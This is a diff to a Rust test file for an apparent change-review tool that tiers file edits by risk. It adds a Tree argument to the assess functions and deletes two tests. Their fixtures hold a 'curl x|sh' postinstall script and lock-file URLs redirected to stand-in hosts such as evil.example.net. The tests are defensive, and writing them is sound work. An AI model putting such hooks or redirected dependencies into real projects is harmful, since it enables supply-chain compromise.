@@ -15,7 +15,7 @@ struct Bench {
 fn bench() -> Bench {
     let stage = tempfile::tempdir().unwrap();
     Bench {
-        rules: Rules::builtin().unwrap(),
+        rules: Rules::new(bastle_policy::host_executed::catalogue().unwrap()).unwrap(),
         blobs: Folder(stage.path().to_owned()),
         _stage: stage,
     }
@@ -28,12 +28,13 @@ impl Bench {
             before: before.map(|b| self.blobs.put(b)),
             after: after.map(|b| self.blobs.put(b)),
         };
-        assess(&self.rules, &change, &self.blobs).unwrap()
+        assess(&self.rules, &Tree::default(), &change, &self.blobs).unwrap()
     }
 
     fn judge_kind(&self, name: &str, after: Kind) -> Assessed {
         assess(
             &self.rules,
+            &Tree::default(),
             &Change {
                 path: path(name),
                 before: None,
@@ -171,50 +172,6 @@ fn a_git_directory_is_refused_in_every_spelling_and_cannot_be_approved() {
 }
 
 #[test]
-fn package_scripts_count_only_when_they_change() {
-    let bench = bench();
-    let old = br#"{"name":"x","scripts":{"test":"a"},"dependencies":{}}"#;
-    let deps = br#"{"name":"x","scripts":{"test":"a"},"dependencies":{"b":"1"}}"#;
-    let script = br#"{"name":"x","scripts":{"test":"a","postinstall":"curl x|sh"},"dependencies":{}}"#;
-    assert_eq!(
-        bench.judge("package.json", Some(old), Some(deps)).tier(),
-        Tier::Flag
-    );
-    assert_eq!(
-        bench.judge("package.json", Some(old), Some(script)).tier(),
-        Tier::Approve
-    );
-    assert_eq!(
-        bench.judge("package.json", Some(old), Some(b"{broken")).tier(),
-        Tier::Approve
-    );
-}
-
-#[test]
-fn a_lock_file_that_names_another_host_needs_approval_and_a_new_version_does_not() {
-    let bench = bench();
-    let old = b"\"resolved\": \"https://packages.example.org/a/-/a-1.tgz\"\n";
-    let newer = b"\"resolved\": \"https://packages.example.org/a/-/a-2.tgz\"\n";
-    for evil in [
-        "\"resolved\": \"https://evil.example.net/a.tgz\"\n",
-        "\"resolved\": \"https://packages.example.org@evil.example.net/a.tgz\"\n",
-        "\"resolved\": \"git+ssh://git@evil.example.net/a\"\n",
-        "\"resolved\": \"file:../../x\"\n",
-        "\"resolved\": \"https://packages.example.org:8443/a.tgz\"\n",
-    ] {
-        let found = bench.judge("package-lock.json", Some(old), Some(evil.as_bytes()));
-        assert!(
-            found.tier() == Tier::Approve && has(&found, Class::Redirect),
-            "{evil}"
-        );
-    }
-    assert_eq!(
-        bench.judge("package-lock.json", Some(old), Some(newer)).tier(),
-        Tier::Note
-    );
-}
-
-#[test]
 fn links_that_leave_the_tree_or_enter_git_are_held_or_refused() {
     let bench = bench();
     let link = |at: &str, to: &str| {
@@ -262,7 +219,7 @@ fn attributes_are_pointed_out_and_part_of_what_is_approved() {
         mode,
         attributes: set.map(crate::manifest::Content::of),
     };
-    let judged = [None, Some(&b"one"[..]), Some(b"two")].map(|set| bench.judge_kind("x", file(set)));
+    let judged = [None, Some(&b"one"[..]), Some(b"two")].map(|set| bench.judge_kind("x.txt", file(set)));
     assert!(!has(&judged[0], Class::Attributes));
     assert!(has(&judged[1], Class::Attributes) && judged[1].tier() == Tier::Flag);
     assert_ne!(judged[0].approval, judged[1].approval);
@@ -416,7 +373,9 @@ fn ignored_paths_are_marked() {
         after: Some(bench.blobs.put(b"x")),
     };
     let ignored = BTreeSet::from([path("target/x")]);
-    assert!(assess_all(&bench.rules, &[change], &ignored, &bench.blobs).unwrap()[0].ignored);
+    assert!(
+        assess_all(&bench.rules, &Tree::default(), &[change], &ignored, &bench.blobs).unwrap()[0].ignored
+    );
 }
 
 proptest! {
